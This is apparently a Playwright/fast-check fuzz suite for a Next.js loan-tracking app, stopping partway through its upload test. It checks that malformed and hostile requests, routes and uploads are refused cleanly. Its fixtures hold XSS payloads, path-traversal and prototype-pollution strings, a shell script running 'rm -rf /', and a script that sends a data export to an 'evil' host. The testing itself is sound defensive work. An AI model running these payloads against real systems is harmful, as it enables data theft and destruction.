/**
 * Fuzzing every server action and route of the production build with malformed, oversized,
 * wrong-typed and hostile input (fast-check, fixed seeds).
 *
 * A borrower (the owner) records one real request per server action through the UI, with the
 * authorisation suites' recorder (e2e/owner-story.ts); her advisor and a visitor record theirs.
 * Each request is then replayed many times with at least one field made invalid (a value the
 * schema must refuse, an id that is not the caller's, a stale version), other fields filled with
 * hostile text, names repeated and unknown fields added. Every answer must be: not a 5xx, no internals in the body (stack, paths,
 * SQL, error names), the app's own refusal (the form's "check the marked fields" with an error on
 * the bad field, or its not-found/conflict sentence, never "something unexpected"), and the
 * whole database and upload folder byte-for-byte unchanged.
 *
 * Then the protocol itself (garbage action ids, broken multipart, other encodings), every route
 * with hostile paths and query strings, and uploads of the kinds a browser could be tricked into
 * running.
 */
import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { expect, test, type APIRequestContext, type Browser, type BrowserContext, type Page } from '@playwright/test';
import {
  addDays,
  buildActions,
  fieldPart,
  fillCaseForm,
  formMessage,
  openFold,
  pngBytes,
  postAction,
  resetLinkToken,
  confirmLinkToken,
  signUp,
  submitButton,
  todayShanghai,
  withField,
  zh,
  type Part,
} from './helpers';
import {
  ACTION_SPECS,
  NOT_FUZZED,
  actionState,
  applyCase,
  changedTables,
  dbGet,
  describe as describeCase,
  fingerprint,
  fuzzCaseArb,
  internalsIn,
  queryArb,
  urlValue,
  requiredFields,
  type Ref,
  type Resolver,
} from './fuzz-helpers';
import { recordAdminStory } from './admin-story';
import { captureInto, recordOwnerStory, type OwnerStory, type StoryAction } from './owner-story';

const SEED = 20_260_521;
/** Cases per action; the whole spec stays within a few minutes on the two-core machines. */
const RUNS = Number(process.env.FUZZ_RUNS || 30);

type Who = 'borrower' | 'advisor' | 'visitor';

const contexts: Partial<Record<Who | 'other', BrowserContext>> = {};
const pages: Partial<Record<Who | 'other', Page>> = {};
/** One recorded request per server action: the owner's story (e2e/owner-story.ts), her advisor's and a visitor's. */
let captured: Map<string, StoryAction>;
/** The owner's live rows, which every replayed request is aimed at (so a missing check would show). */
let ids: OwnerStory['ids'];
/** Another borrower's rows: "not yours" ids. */
const otherIds: Partial<Record<Ref, number>> = {};
/** Fuzz cases sent, by part of the suite (reported at the end). */
const counts: Record<string, number> = {};
const count = (what: string, n = 1) => (counts[what] = (counts[what] ?? 0) + n);

/** The owner's whole story through the UI (the advisor's acceptance included), capturing one request per server action. */
async function recordOwner(browser: Browser) {
  const story = await recordOwnerStory(browser, { who: '模糊测试' });
  ({ captured, ids } = story);
  contexts.borrower = story.owner.context;
  pages.borrower = story.owner.page;
  contexts.advisor = story.advisor.context;
  pages.advisor = story.advisor.page;
}

/** A visitor: signs up (captured), signs out, fails a sign-in (captured). */
async function recordVisitor(browser: Browser) {
  contexts.visitor = await browser.newContext();
  const page = (pages.visitor = await contexts.visitor.newPage());
  await page.goto('/signup');
  const form = page.getByTestId('signup-form');
  const email = `fuzz-visitor-${randomBytes(4).toString('hex')}@e2e.test`;
  await form.locator('input[name="displayName"]').fill('访客');
  await form.locator('input[name="email"]').fill(email);
  await form.locator('input[name="password"]').fill('visitor-password-1');
  await form.locator('input[name="role"][value="borrower"]').check();
  await captureInto(captured, page, () => submitButton(form).click(), undefined, 'visitor');
  await page.waitForURL((u) => !['/signup', '/signin', '/'].includes(u.pathname));
  await contexts.visitor.clearCookies();
  await page.goto('/signin');
  const signin = page.getByTestId('signin-form');
  await signin.locator('input[name="email"]').fill(email);
  await signin.locator('input[name="password"]').fill('not-the-password');
  await captureInto(captured, page, () => submitButton(signin).click(), undefined, 'visitor');
  await expect(formMessage(signin)).toHaveText(zh('auth.invalidCredentials'));
  // The reset link's page, with the visitor's own link: the two passwords differ, so no replay can set one.
  await page.goto(`/reset-password?t=${encodeURIComponent(resetLinkToken(email))}`);
  const reset = page.getByTestId('reset-form');
  await reset.locator('input[name="next"]').fill('visitor-password-2');
  await reset.locator('input[name="confirm"]').fill('visitor-password-3');
  await captureInto(captured, page, () => submitButton(reset).click(), undefined, 'visitor');
  await expect(reset.getByTestId('error-confirm')).toHaveText(zh('errors.password_mismatch'));
  // The confirmation link's page, with the visitor's own link (as the mail after sign-up would carry it).
  await page.goto(`/confirm-email?t=${encodeURIComponent(confirmLinkToken(email))}`);
  const confirm = page.getByTestId('confirm-form');
  await captureInto(captured, page, () => submitButton(confirm).click(), undefined, 'visitor');
  await expect(page.getByTestId('confirm-done')).toHaveText(zh('auth.confirm.done', { email }));
  // "Forgot your password" shows its form only where the server sends mail (not in the tests): its
  // request is put together exactly as React sends a form (fields as `_1_<name>`, then the root part "0").
  const forgot = buildActions().find((a) => `${a.filename}#${a.exportedName}` === 'app/(auth)/actions.ts#forgotPasswordAction')!;
  captured.set('app/(auth)/actions.ts#forgotPasswordAction', {
    name: 'app/(auth)/actions.ts#forgotPasswordAction',
    actionId: forgot.id,
    path: '/forgot-password',
    routerStateTree: undefined,
    parts: [
      { name: '_1_email', value: Buffer.from(email) },
      { name: '0', value: Buffer.from('[{"status":"idle"},"$K1"]') },
    ],
    by: 'visitor',
    synthesized: true,
  });
}

/** Another borrower's case, document, contact, reminder and private lender: ids that are "not yours". */
async function recordOther(browser: Browser) {
  contexts.other = await browser.newContext();
  const page = (pages.other = await contexts.other.newPage());
  await signUp(page, { displayName: '另一位借款人' });
  await page.goto('/lenders');
  const lenderForm = page.getByTestId('lender-form');
  await lenderForm.locator('input[name="name"]').fill('别人的私有机构');
  await lenderForm.locator('select[name="kind"]').selectOption('bank');
  await submitButton(lenderForm).click();
  await expect(formMessage(lenderForm)).toContainText('别人的私有机构');
  await page.goto('/cases/new');
  const caseForm = await fillCaseForm(page, { lender: '别人的私有机构', principal: '10' });
  await submitButton(caseForm).click();
  await page.waitForURL(/\/cases\/\d+(\?saved=\w+)?$/);
  const caseId = Number(new URL(page.url()).pathname.split('/').pop());
  const addForm = (await openFold(page.getByTestId('add-document'))).getByTestId('add-document-form');
  await addForm.locator('select[name="kind"]').selectOption('payslip');
  await submitButton(addForm).click();
  await expect(page.getByTestId('documents').locator('[data-testid="document"][data-kind="payslip"]')).toHaveCount(1);
  const contactForm = (await openFold(page.getByTestId('add-contact'))).getByTestId('contact-form');
  await contactForm.locator('textarea[name="summary"]').fill('别人的沟通');
  await submitButton(contactForm).click();
  await expect(page.getByTestId('contacts').getByTestId('contact')).toHaveCount(1);
  const reminderForm = (await openFold(page.getByTestId('case-reminders').getByTestId('add-reminder'))).getByTestId('reminder-form');
  await reminderForm.locator('input[name="title"]').fill('别人的提醒');
  await reminderForm.locator('input[name="dueOn"]').fill(addDays(todayShanghai(), 3));
  await submitButton(reminderForm).click();
  await expect(page.getByTestId('case-reminders').getByTestId('reminder')).toHaveCount(1);
  otherIds.case = caseId;
  otherIds.document = dbGet<{ id: number }>('select id from documents where case_id = ?', caseId)!.id;
  otherIds.contact = dbGet<{ id: number }>('select id from contacts where case_id = ?', caseId)!.id;
  otherIds.reminder = dbGet<{ id: number }>('select id from reminders where case_id = ?', caseId)!.id;
  otherIds.lender = dbGet<{ id: number }>("select id from lenders where name = '别人的私有机构'")!.id;
  otherIds.user = dbGet<{ id: number }>("select owner_id as id from cases where id = ?", caseId)!.id;
  // An instalment and a share of someone else's: the largest ids that are not the owner's, if any.
  otherIds.instalment = dbGet<{ id: number }>('select max(id) as id from instalments where case_id != ?', ids.main)?.id ?? undefined;
  // A materials request of another case (the owner's own, or nobody's: then one that does not exist).
  otherIds.materialRequest = dbGet<{ id: number }>('select max(id) as id from material_requests where case_id != ?', ids.main)?.id ?? undefined;
  otherIds.share = undefined;
}

/** Actions that ask for the password again: a wrong one is counted (db/users.ts verifyPasswordAgain), the only write allowed. */
const MAY_COUNT_A_GUESS = new Set(['app/settings/actions.ts#changePasswordAction', 'app/settings/actions.ts#changeEmailAction', 'app/settings/actions.ts#deleteAccountAction']);

/** The captured request, aimed at the owner's live rows at the case's current version. */
function basePartsOf(name: string): { parts: Part[]; caseId: number | null } {
  const c = captured.get(name)!;
  let parts = c.parts;
  const capturedCase = fieldPart(parts, 'caseId') ? Number(fieldPart(parts, 'caseId')!.value.toString()) : null;
  const alive = capturedCase !== null && [ids.main, ids.escalated, ids.withdrawn].includes(capturedCase) ? capturedCase : ids.main;
  const aim: Record<string, string> = {
    caseId: String(alive),
    documentId: String(ids.document),
    contactId: String(ids.contact),
    instalmentId: String(ids.instalment),
    reminderId: String(ids.reminder),
    shareId: String(ids.share),
    lenderId: String(ids.lender),
    // A fresh form key, so that "already done" can never stand in for a refusal.
    formKey: randomBytes(12).toString('base64url'),
  };
  for (const [field, value] of Object.entries(aim)) if (fieldPart(parts, field)) parts = withField(parts, field, value);
  if (fieldPart(parts, 'version')) parts = withField(parts, 'version', String(versionOf(alive)));
  return { parts, caseId: capturedCase === null ? null : alive };
}

function versionOf(caseId: number): number {
  return dbGet<{ version: number }>('select version from cases where id = ?', caseId)?.version ?? 1;
}

function resolverFor(caseId: number | null): Resolver {
  return {
    nonexistent: () => String(1_000_000_000_000 + Math.floor(Math.random() * 1_000_000)),
    other: (ref) => (otherIds[ref] === undefined ? undefined : String(otherIds[ref])),
    currentVersion: () => versionOf(caseId ?? ids.main),
    today: todayShanghai(),
  };
}

function requestOf(spec: { as?: Who }): APIRequestContext {
  return pages[spec.as ?? 'borrower']!.request;
}

/** Playwright hands the body as a string; sent values are compared the same way. */
async function bodyOf(res: { text: () => Promise<string> }): Promise<string> {
  return res.text();
}

test.beforeAll(async ({ browser }) => {
  test.setTimeout(300_000);
  await recordOwner(browser);
  await recordVisitor(browser);
  await recordOther(browser);
  // The admin console's requests (the admin's own, on a throwaway account and lender), replayed by the borrower.
  await recordAdminStory(browser, captured, 'F');
});

test.afterAll(async () => {
  for (const c of Object.values(contexts)) await c?.close();
  // "of which …" counts are part of another count, not cases of their own.
  const total = Object.entries(counts).filter(([k]) => !k.startsWith('of which')).reduce((a, [, b]) => a + b, 0);
  console.log(`[fuzz] ${total} fuzz cases: ${JSON.stringify(counts)}`);
});

test('every server action in the build is fuzzed below, or excluded with a reason', () => {
  const inBuild = buildActions().map((a) => `${a.filename}#${a.exportedName}`);
  expect(inBuild.length).toBeGreaterThan(30);
  const uncovered = inBuild.filter((n) => !(n in NOT_FUZZED) && !(n in ACTION_SPECS));
  expect(uncovered, 'server actions with no field spec in e2e/fuzz-helpers.ts').toEqual([]);
  const notCaptured = inBuild.filter((n) => !(n in NOT_FUZZED) && !captured.has(n));
  expect(notCaptured, 'server actions whose request was not recorded').toEqual([]);
  // Every field the browser sends is one the spec knows (a new field must be fuzzed too).
  for (const [name, c] of captured) {
    const spec = ACTION_SPECS[name];
    if (!spec) continue;
    const sent = c.parts
      .filter((p) => p.name !== '0' && !p.name.includes('$ACTION'))
      .map((p) => p.name.replace(/^_\d+_/, ''))
      .filter((f) => !spec.ticks?.some((prefix) => new RegExp(`^${prefix}\\d+$`).test(f)));
    expect(sent.filter((f) => !(f in spec.fields)), `${name}: fields the spec does not know`).toEqual([]);
  }
});

for (const [index, [name, spec]] of Object.entries(ACTION_SPECS).entries()) {
  test(`fuzz ${name}`, async ({ baseURL }) => {
    test.skip(!buildActions().some((a) => `${a.filename}#${a.exportedName}` === name), 'not in this build');
    test.setTimeout(180_000);
    const action = captured.get(name)!;
    const request = requestOf(spec);
    const checkFields = zh('errors.check_fields');
    const unexpected = zh('errors.unexpected');
    await fc.assert(
      fc.asyncProperty(fuzzCaseArb(spec), async (fcase) => {
        count('actions');
        const { parts: base, caseId } = basePartsOf(name);
        const { parts, sent } = applyCase(base, fcase, resolverFor(caseId));
        const where = `${name} ${describeCase(fcase)}`;
        const before = fingerprint();
        const res = await postAction(request, baseURL!, action, parts);
        const body = await bodyOf(res);
        expect(res.status(), where).toBeLessThan(500);
        expect(internalsIn(body, sent), `${where}: internals in the answer`).toEqual([]);
        const written = changedTables(before, fingerprint());
        if (name === 'app/settings/actions.ts#regenerateCalendarTokenAction') expect(written, where).toEqual(['users']);
        else expect(written.filter((t) => !(MAY_COUNT_A_GUESS.has(name) && t === 'login_limits')), `${where}: written`).toEqual([]);
        if (name === 'app/actions.ts#setLocaleAction') {
          // A plain form action (no state): an unknown language sets no cookie and changes nothing.
          expect(res.headers()['set-cookie'] ?? '', where).not.toMatch(/(^|\n|, )locale=/);
          return;
        }
        expect(res.status(), where).toBe(200);
        expect(res.headers()['x-action-redirect'], `${where}: redirected as if it had worked`).toBeUndefined();
        const state = actionState(body);
        // (The page re-rendered after a change carries every message, so only the state's own message is read.)
        expect(state.message, `${where}: "unexpected" means an exception was caught`).not.toBe(unexpected);
        if (spec.noInput) {
          expect(state.status, where).toBe(spec.refusal ? 'error' : 'ok');
          if (spec.refusal) expect(state.message, where).toBe(zh(spec.refusal));
          return;
        }
        expect(state.status, where).toBe('error');
        expect(state.message, where).toBeTruthy();
        const schemaBad = Object.entries(fcase.bad)
          .filter(([, b]) => !b.semantic)
          .map(([f]) => f);
        if (schemaBad.length > 0) {
          expect(state.message, where).toBe(checkFields);
          const flagged = Object.keys(state.fieldErrors ?? {});
          // A cross-field rule (confirm = next) runs only once every field is valid on its own.
          const mustFlag = schemaBad.filter((f) => f !== 'confirm');
          for (const f of mustFlag) expect(flagged, `${where}: no error next to ${f}`).toContain(f);
          if (mustFlag.length === 0) expect(flagged.length, where).toBeGreaterThan(0);
        }
      }),
      { seed: SEED + index, numRuns: spec.noInput ? 5 : RUNS, endOnFailure: true },
    );
  });
}

// --- the protocol itself -------------------------------------------------------------------------------

/** Posts a raw body with the given headers to an action's page. */
async function postRaw(request: APIRequestContext, baseURL: string, path: string, headers: Record<string, string>, body: Buffer | string) {
  return request.post(`${baseURL}${path}`, {
    headers: { accept: 'text/x-component', origin: baseURL, ...headers },
    data: typeof body === 'string' ? Buffer.from(body) : body,
    maxRedirects: 0,
    failOnStatusCode: false,
  });
}

function multipart(parts: Part[], boundary = `----fuzz${randomBytes(6).toString('hex')}`): Buffer {
  const chunks: Buffer[] = [];
  for (const p of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n`), p.value, Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

/** proxy.ts's answer to a body Next's decoder cannot read: 400, a short sentence, the usual headers. */
function expectUndecodable(res: Awaited<ReturnType<typeof postRaw>>, body: string, where: string) {
  expect(res.status(), `${where}: ${body.slice(0, 200)}`).toBe(400);
  expect(body, where).toMatch(/^Bad request: this server action request cannot be decoded: .+\.\n$/);
  const h = res.headers();
  expect(h['x-content-type-options'], where).toBe('nosniff');
  expect(h['x-frame-options'], where).toBe('DENY');
  expect(h['content-security-policy'], where).toContain("frame-ancestors 'none'");
}

/** Arguments a hostile client can encode for an action (a browser sends [prevState, FormData]). */
const WRONG_ARGS = [
  '[]',
  '[null]',
  '[null,null]',
  '["a","b"]',
  '[{"status":"idle"},"text"]',
  '[{"status":"idle"},123]',
  '[{"status":"idle"},true]',
  '[{"status":"idle"},{"caseId":"1","version":"1"}]',
  '[{"status":"idle"},["$K1"]]',
  '[{"status":"idle"},{"get":"x","entries":"y"}]',
  '[{"__proto__":{"status":"ok"}},"$K1"]',
  '[{"status":"idle"},"$K1","extra",42]',
  '[{"status":"idle"},"$D2025-01-01T00:00:00.000Z"]',
  '[{"status":"idle"},"$n12345678901234567890"]',
];
/** Arguments that are not a list at all: refused with 400 before Next decodes them (proxy.ts, lib/action-body.ts). */
const NOT_A_LIST = ['{"0":{"status":"idle"},"1":"$K1","length":2}', '"$K1"', '42', 'null', '"text"'];

/**
 * Bodies Next's decoder cannot read. Left to Next, each of these got its bare 500 (an error row with
 * a digest); proxy.ts now refuses them with 400 before Next decodes anything (lib/action-body.ts).
 */
const BROKEN_BODIES: { what: string; contentType: (b: string) => string; body: (good: Buffer, b: string) => Buffer | string }[] = [
  { what: 'multipart without a boundary', contentType: () => 'multipart/form-data', body: (good) => good },
  { what: 'multipart with another boundary', contentType: () => 'multipart/form-data; boundary=not-the-one', body: (good) => good },
  { what: 'multipart cut short', contentType: (b) => `multipart/form-data; boundary=${b}`, body: (good) => good.subarray(0, Math.floor(good.length / 2)) },
  { what: 'multipart without its end', contentType: (b) => `multipart/form-data; boundary=${b}`, body: (good) => good.subarray(0, good.length - 10) },
  { what: 'multipart of garbage', contentType: (b) => `multipart/form-data; boundary=${b}`, body: () => randomBytes(2048) },
  { what: 'an empty body', contentType: (b) => `multipart/form-data; boundary=${b}`, body: () => '' },
  { what: 'text that is not JSON', contentType: () => 'text/plain;charset=UTF-8', body: () => '{{{ not json' },
  { what: 'JSON', contentType: () => 'application/json', body: () => '{"caseId":"1"}' },
  { what: 'no content type', contentType: () => '', body: () => 'caseId=1' },
  { what: 'a form-urlencoded body', contentType: () => 'application/x-www-form-urlencoded', body: () => 'caseId=1&version=1' },
  { what: 'octet-stream', contentType: () => 'application/octet-stream', body: () => randomBytes(512) },
  { what: 'an unknown reference', contentType: (b) => `multipart/form-data; boundary=${b}`, body: (_g, b) => multipart([{ name: '0', value: Buffer.from('["$@99","$Q5"]') }], b) },
  {
    what: 'a prototype-chain reference',
    contentType: (b) => `multipart/form-data; boundary=${b}`,
    body: (_g, b) =>
      multipart(
        [
          { name: '0', value: Buffer.from('["$1:constructor:constructor"]') },
          { name: '1', value: Buffer.from('{"then":"$1:__proto__:then"}') },
        ],
        b,
      ),
  },
  { what: 'a server reference', contentType: (b) => `multipart/form-data; boundary=${b}`, body: (_g, b) => multipart([{ name: '0', value: Buffer.from('["$h1"]') }, { name: '1', value: Buffer.from('{"id":"x","bound":null}') }], b) },
  { what: 'no root part', contentType: (b) => `multipart/form-data; boundary=${b}`, body: (_g, b) => multipart([{ name: '_1_caseId', value: Buffer.from('1') }], b) },
];

test('the protocol: garbage action ids, broken bodies, other encodings, arguments of the wrong type, another action\'s id', async ({ baseURL }) => {
  test.setTimeout(180_000);
  const name = 'app/cases/[id]/actions.ts#addContactAction';
  const action = captured.get(name)!;
  const request = pages.borrower!.request;
  const good = basePartsOf(name).parts;
  const boundary = `----fuzz${randomBytes(6).toString('hex')}`;
  const goodBody = multipart(good, boundary);
  const checkAnswer = async (res: Awaited<ReturnType<typeof postRaw>>, where: string, before: Record<string, string>) => {
    const body = await res.text();
    // No 5xx of any kind, Next's bare "digest only" 500 included.
    expect(res.status(), `${where}: ${res.status()} ${body.slice(0, 200)}`).toBeLessThan(500);
    expect(internalsIn(body), `${where}: internals`).toEqual([]);
    expect(actionState(body).message, where).not.toBe(zh('errors.unexpected'));
    expect(changedTables(before, fingerprint()), `${where}: written`).toEqual([]);
    return body;
  };

  // Garbage action ids: 4xx, nothing run.
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        fc.stringMatching(/^[0-9a-f]{40,42}$/),
        fc.constantFrom('', 'x', '0', 'null', '../../etc/passwd', '$ACTION_ID', 'A'.repeat(8_000), `${action.actionId} `, action.actionId.toUpperCase()),
      ),
      async (id) => {
        count('protocol');
        const before = fingerprint();
        const res = await postRaw(request, baseURL!, action.path, { 'next-action': id, 'content-type': `multipart/form-data; boundary=${boundary}` }, goodBody);
        const where = `next-action ${JSON.stringify(id.slice(0, 60))}`;
        await checkAnswer(res, where, before);
        expect(res.status(), where).toBeGreaterThanOrEqual(400);
        expect(res.status(), where).toBeLessThan(500);
      },
    ),
    { seed: SEED, numRuns: 15, endOnFailure: true },
  );

  // Bodies the decoder cannot read: a clear 400, with the headers every answer has.
  for (const broken of BROKEN_BODIES) {
    count('protocol');
    count('of which undecodable (400)');
    const before = fingerprint();
    const contentType = broken.contentType(boundary);
    const res = await postRaw(request, baseURL!, action.path, { 'next-action': action.actionId, ...(contentType ? { 'content-type': contentType } : {}) }, broken.body(goodBody, boundary));
    const body = await checkAnswer(res, broken.what, before);
    expectUndecodable(res, body, broken.what);
  }

  // Arguments of the wrong type, well encoded: they reach the action, which must refuse them itself.
  for (const actionName of [name, 'app/(auth)/actions.ts#signInAction', 'app/(auth)/actions.ts#signUpAction', 'app/actions.ts#setLocaleAction', 'app/settings/actions.ts#updateProfileAction']) {
    const target = captured.get(actionName)!;
    const as = ACTION_SPECS[actionName]?.as ?? 'borrower';
    for (const args of [...WRONG_ARGS, ...NOT_A_LIST]) {
      for (const encoding of ['text', 'multipart'] as const) {
        count('protocol');
        const before = fingerprint();
        const res =
          encoding === 'text'
            ? await postRaw(pages[as]!.request, baseURL!, target.path, { 'next-action': target.actionId, 'content-type': 'text/plain;charset=UTF-8' }, args)
            : await postRaw(pages[as]!.request, baseURL!, target.path, { 'next-action': target.actionId, 'content-type': `multipart/form-data; boundary=${boundary}` }, multipart([{ name: '0', value: Buffer.from(args) }], boundary));
        const where = `${actionName} with arguments ${args} (${encoding})`;
        // Arguments that are not a list never reach Next's decoder (400); a list of wrong types reaches the action, which refuses it.
        const body = await checkAnswer(res, where, before);
        if (WRONG_ARGS.includes(args)) expect(res.status(), where).toBe(200);
        if (NOT_A_LIST.includes(args)) {
          count('of which undecodable (400)');
          expectUndecodable(res, body, where);
        }
        if (actionName !== 'app/actions.ts#setLocaleAction' && res.status() === 200) expect(actionState(body).status, where).toBe('error');
      }
    }
  }

  // A request of one action sent under another action's id, with every id in it pointing nowhere.
  const pairs = [...captured.keys()].flatMap((from) => [...captured.keys()].filter((to) => to !== from).map((to) => [from, to] as const));
  const usable = pairs.filter(([from, to]) => {
    const toSpec = ACTION_SPECS[to];
    if (!toSpec || toSpec.noInput || to === 'app/actions.ts#setLocaleAction') return false;
    // A target with an id field finds nothing (every id now points nowhere, or is missing).
    if (Object.values(toSpec.fields).some((k) => k.k === 'id')) return true;
    // Otherwise only if the source lacks one of the target's required fields.
    const fromFields = Object.keys(ACTION_SPECS[from]?.fields ?? {});
    return requiredFields(toSpec).some((f) => !fromFields.includes(f));
  });
  expect(usable.length).toBeGreaterThan(100);
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...usable), async ([from, to]) => {
      count('protocol');
      let parts = basePartsOf(from).parts;
      for (const f of ['caseId', 'documentId', 'contactId', 'instalmentId', 'reminderId', 'shareId', 'lenderId']) {
        if (fieldPart(parts, f)) parts = withField(parts, f, String(1_000_000_000_000 + Math.floor(Math.random() * 1_000)));
      }
      const target = captured.get(to)!;
      const as = ACTION_SPECS[to].as ?? 'borrower';
      const before = fingerprint();
      const res = await postAction(pages[as]!.request, baseURL!, target, parts);
      const where = `${from}'s request under ${to}'s id`;
      const body = await checkAnswer(res, where, before);
      expect(res.status(), where).toBe(200);
      expect(actionState(body).status, where).toBe('error');
    }),
    { seed: SEED + 1, numRuns: 40, endOnFailure: true },
  );
});

// --- routes and pages --------------------------------------------------------------------------------

/** Whether every escape in a path decodes (`%FF` does not), as proxy.ts asks. */
function decodable(path: string): boolean {
  try {
    decodeURIComponent(path);
    return true;
  } catch {
    return false;
  }
}

/** `emptyBody`: answered with nothing at all; `sameBody`: with one page, whatever was asked (nothing of the request echoed). */
type RouteCase = { who: Who | 'anonymous'; url: (q: string) => string; keys?: string[]; ok: number[]; emptyBody?: boolean; sameBody?: boolean; logsAccess?: boolean };

const BAD_IDS = ['abc', '-1', '0', '99999999999999999999', '1e3', '1.5', '%00', '%E4%B8', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'null', ' 1', '0x10', '٣', 'A'.repeat(2_000)];

test('routes and pages with hostile paths and query strings: 404 or the normal page, never a 5xx or internals', async ({ baseURL, playwright }) => {
  test.setTimeout(240_000);
  const anonymous = await playwright.request.newContext({ baseURL });
  const requestFor = (who: RouteCase['who']) => (who === 'anonymous' ? anonymous : pages[who]!.request);
  const routes: Record<string, RouteCase> = {
    '/cases': { who: 'borrower', url: (q) => `/cases?${q}`, keys: ['status', 'lender', 'q', 'archived', 'done'], ok: [200] },
    '/home': { who: 'borrower', url: (q) => `/home?${q}`, keys: ['month'], ok: [200] },
    '/lenders': { who: 'borrower', url: (q) => `/lenders?${q}`, keys: ['q', 'from'], ok: [200] },
    '/cases/new': { who: 'borrower', url: (q) => `/cases/new?${q}`, keys: ['lender'], ok: [200] },
    '/reminders': { who: 'borrower', url: (q) => `/reminders?${q}`, keys: ['tab', 'page', 'status'], ok: [200] },
    '/reminders/count': { who: 'borrower', url: (q) => `/reminders/count?${q}`, keys: ['today', 'userId'], ok: [200] },
    '/sharing': { who: 'borrower', url: (q) => `/sharing?${q}`, keys: ['shareId'], ok: [200] },
    '/settings': { who: 'borrower', url: (q) => `/settings?${q}`, keys: ['deleted', 'tab'], ok: [200] },
    '/share/accept': { who: 'advisor', url: (q) => `/share/accept?${q}`, keys: ['code'], ok: [200] },
    '/share/accept (signed out)': { who: 'anonymous', url: (q) => `/share/accept?${q}`, keys: ['code'], ok: [200] },
    // What an advisor opens of a client's data goes into the client's access log (by design).
    '/dashboard': { who: 'advisor', url: (q) => `/dashboard?${q}`, keys: ['status', 'lender', 'client', 'attention', 'q', 'sort', 'dir', 'page'], ok: [200], logsAccess: true },
    '/dashboard/export': {
      who: 'advisor',
      url: (q) => `/dashboard/export?${q}`,
      keys: ['status', 'lender', 'client', 'attention', 'q', 'sort', 'dir', 'page'],
      ok: [200],
      logsAccess: true,
    },
    '/dashboard/export (borrower)': { who: 'borrower', url: (q) => `/dashboard/export?${q}`, keys: ['status', 'q'], ok: [404] },
    '/cases/<id>': { who: 'borrower', url: (v) => `/cases/${v}`, ok: [404] },
    '/cases/<id>/edit': { who: 'borrower', url: (v) => `/cases/${v}/edit`, ok: [404] },
    '/documents/<id>': { who: 'borrower', url: (v) => `/documents/${v}`, ok: [404], sameBody: true },
    '/calendar/<token>.ics': { who: 'anonymous', url: (v) => `/calendar/${v}.ics`, ok: [404], emptyBody: true },
    '/calendar/<token>': { who: 'anonymous', url: (v) => `/calendar/${v}`, ok: [404], emptyBody: true },
  };
  for (const [label, route] of Object.entries(routes)) {
    let firstBody: string | undefined;
    const values = route.keys
      ? queryArb(route.keys)
      : fc.oneof(fc.constantFrom(...BAD_IDS), urlValue.filter((v) => !/^[1-9]\d{0,5}$/.test(v)), fc.integer({ min: 1_000_000_000, max: 999_999_999_999 }).map(String));
    await fc.assert(
      fc.asyncProperty(values, async (v) => {
        count('routes');
        const url = route.url(v);
        const where = `${label}: GET ${url.slice(0, 160)}`;
        const before = fingerprint();
        const res = await requestFor(route.who).get(url, { maxRedirects: 0, failOnStatusCode: false });
        const body = await res.text();
        expect(res.status(), where).toBeLessThan(500);
        // A URL longer than the server takes is refused before it reaches the app.
        if (res.status() === 431 || res.status() === 414 || res.status() === 400) return;
        expect(route.ok, `${where}: status ${res.status()}`).toContain(res.status());
        if (route.emptyBody) expect(body, where).toBe('');
        // A path that cannot be decoded never reaches the route: proxy.ts answers it with an empty 404.
        if (route.sameBody && !decodable(url)) expect(body, where).toBe('');
        else if (route.sameBody) expect(body, where).toBe((firstBody ??= body));
        const decoded = (() => {
          try {
            return decodeURIComponent(v);
          } catch {
            return v;
          }
        })();
        expect(internalsIn(body, [v, decoded, ...v.split(/[&=]/).map((s) => { try { return decodeURIComponent(s); } catch { return s; } })]), `${where}: internals`).toEqual([]);
        const changed = changedTables(before, fingerprint());
        expect(route.logsAccess ? changed.filter((t) => t !== 'access_log') : changed, `${where}: written`).toEqual([]);
      }),
      { seed: SEED + 7, numRuns: route.keys ? 12 : 10, endOnFailure: true },
    );
  }
  await anonymous.dispose();
});

// --- uploads ---------------------------------------------------------------------------------------------

const HOSTILE_FILES: { what: string; bytes: () => Buffer; fileName: string; contentType: string }[] = [
  { what: 'an HTML page', bytes: () => Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'), fileName: 'proof.html', contentType: 'text/html' },
  {
    what: 'an SVG with a script',
    bytes: () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    fileName: 'scan.svg',
    contentType: 'image/svg+xml',
  },
  { what: 'a JavaScript file', bytes: () => Buffer.from('fetch("/settings/export").then(r => r.blob()).then(b => navigator.sendBeacon("//evil", b));'), fileName: 'x.js', contentType: 'text/javascript' },
  { what: 'a shell script', bytes: () => Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n'), fileName: 'run.sh', contentType: 'application/x-sh' },
  { what: 'HTML renamed to .pdf and sent as a PDF', bytes: () => Buffer.from('<html><body><script>alert(1)</script></body></html>'), fileName: '收入证明.pdf', contentType: 'application/pdf' },
  { what: 'HTML renamed to .png and sent as a PNG', bytes: () => Buffer.from('<html><img src=x onerror=alert(1)></html>'), fileName: 'photo.png', contentType: 'image/png' },
  { what: 'an XHTML document', bytes: () => Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'), fileName: 'a.xhtml', contentType: 'application/xhtml+xml' },
  { what: 'HTML behind a byte order mark and spaces', bytes: () => Buffer.from('\uFEFF   \n<html><script>alert(1)</script></html>'), fileName: 'a.pdf', contentType: 'application/pdf' },
  { what: 'a GIF (an image type not accepted)', bytes: () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'), fileName: 'a.gif', contentType: 'image/gif' },
  { what: 'a ZIP (an archive)', bytes: () => Buffer.from('504b0304140000000000000000000000000000000000000000000000000000', 'hex'), fileName: 'a.pdf', contentType: 'application/pdf' },
];

test('uploads: HTML, SVG, scripts and renamed files are refused by their bytes with a clear message, and nothing is stored', async ({ baseURL }) => {
  const name = 'app/cases/[id]/actions.ts#uploadDocumentFileAction';
  const action = captured.get(name)!;
  const request = pages.borrower!.request;
  for (const file of HOSTILE_FILES) {
    count('uploads');
